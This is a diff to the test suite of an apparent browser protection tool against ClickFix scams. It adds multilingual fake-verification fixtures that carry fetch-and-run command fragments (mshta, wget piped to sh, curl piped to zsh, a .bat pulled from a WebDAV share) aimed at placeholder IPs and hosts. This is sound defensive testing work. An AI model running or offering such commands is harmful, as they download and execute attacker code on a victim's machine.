@@ -36,6 +36,15 @@ const SCAM = [
   ['clickfix-routes.html?via=items', 'verif-humano-pt.example', '#check', 'certutil -urlcache', '203[.]0[.]113[.]45'],
   // A Spanish "shared document" whose Run-box steps are only in an alert() after the copy.
   ['clickfix-alert.html', 'visor-documentos.example', '#open', 'iwr https://doc-visor.example', 'doc-visor[.]example'],
+  // No Win+R words (eval24): the steps only in an image with no alt text (Arabic, no word list);
+  // Windows key + "type cmd" + right-click to paste (Indonesian, hidden textarea); Linux
+  // Ctrl+Alt+T (a `wget | sh`); PowerShell from the Start menu (German, copy handler); FileFix
+  // through an upload dialog (Polish, no padding). Each copies a command it does not show.
+  ['clickfix-image-steps.html', 'tahaqquq-hawiya.example', '#verify', 'mshta http://198.51.100.23', '198[.]51[.]100[.]23/v[.]hta'],
+  ['clickfix-cmd-search.html', 'rapat-mikrofon-perbaikan.example', '#fix', 'http://198.51.100.9/z.bat', '198[.]51[.]100[.]9/z[.]bat'],
+  ['clickfix-linux.html', 'mirror-verify-dl.example', '#verify', 'wget -qO- http://198.51.100.4', 'hxxp://198[.]51[.]100[.]4/v [|] sh'],
+  ['clickfix-startmenu.html', 'dokument-ansicht.example', '#fix', 'schrift-cdn.example.net', 'schrift-cdn[.]example[.]net'],
+  ['clickfix-filefix-upload.html', 'udostepniony-dokument.example', '#copy', 'http://198.51.100.13/q4', '198[.]51[.]100[.]13/q4'],
 ];
 
 /** A real click on `selector` inside the iframe `frame` of the tab. */
@@ -142,12 +151,19 @@ for (const name of BROWSERS) {
       await tab.close();
     });
 
-    test('clickfix-typed.html: a command shown to type by hand (nothing copied) gets the ClickFix warning; the clipboard stays the person\'s', async () => {
+    // A command shown to type by hand: mshta under a human check; a French Safari update's
+    // `curl | zsh` from a bare IP in Terminal; an Italian Win+R `cmd /c start` of a .bat on a
+    // WebDAV share at a bare IP (eval24's typed misses, invented).
+    for (const [file, host, shown] of [
+      ['clickfix-typed.html', 'human-check-typed.example', '203[.]0[.]113[.]61'],
+      ['clickfix-typed-mac.html', 'maj-safari-urgente.example', 'hxxp://198[.]51[.]100[.]2/upd [|] zsh'],
+      ['clickfix-typed-share.html', 'accesso-in-sospeso.example', '\\\\198[.]51[.]100[.]7@80\\verifica[.]bat'],
+    ]) test(`${file}: a command shown to type by hand (nothing copied) gets the ClickFix warning; the clipboard stays the person's`, async () => {
       // The person's own clipboard before the visit: HangUp must not touch it.
       const reader = await browser.open(readerUrl);
       if (name === 'chromium') await reader.page.evaluate(() => navigator.clipboard.writeText('my shopping list'));
       const before = await readClipboard(browser, reader);
-      const tab = await browser.open(fixtureUrl('clickfix-typed.html', 'human-check-typed.example'));
+      const tab = await browser.open(fixtureUrl(file, host));
       const seen = await waitFor(async () => {
         const o = await tab.overlay();
         return o.present && o.covers && o.visible && o.onTop ? o : null;
@@ -157,7 +173,7 @@ for (const name of BROWSERS) {
       assert.equal(verdict?.kind, 'clickfix', JSON.stringify(verdict));
       assert.ok(verdict.reasons.some((r) => r.id === 'typed_command'), JSON.stringify(verdict.reasons));
       assert.ok(!verdict.reasons.some((r) => r.id === 'clipboard_command'), 'nothing was copied');
-      assert.ok(verdict.command.includes('203[.]0[.]113[.]61'), `defanged command ${verdict.command}`);
+      assert.ok(verdict.command.includes(shown), `defanged command ${verdict.command}`);
       if (name === 'chromium') {
         const text = await waitFor(() => tab.overlayText(), 5000);
         assert.match(text, /showed you a command/);
@@ -226,6 +242,15 @@ for (const name of BROWSERS) {
         ['bits', 'bitsadmin /transfer opsjob /download /priority normal https://mirror.example-ops.test/tools/sysinfo.zip C:\\Temp\\sysinfo.zip'],
         ['decode', 'certutil -decode C:\\Temp\\report.b64 C:\\Temp\\report.pdf'],
         ['hta', 'mshta C:\\Tools\\inventory.hta'],
+      ]);
+    });
+
+    test('benign-it-howto.html: an IT how-to ("open Terminal and type", its own https installer, Win+R and cmd with an intranet drive) stays silent and still copies', async () => {
+      await copiesSilently(fixtureUrl('benign-it-howto.html', 'it.example-corp.test'), [
+        ['upd', 'sudo softwareupdate -i -a'],
+        ['vpn', 'curl -fsSL https://vpn.example-corp.test/install.sh | sudo bash'],
+        ['dns', 'ipconfig /flushdns'],
+        ['drive', 'cmd /c net use H: \\\\fs01\\home'],
       ]);
     });
 
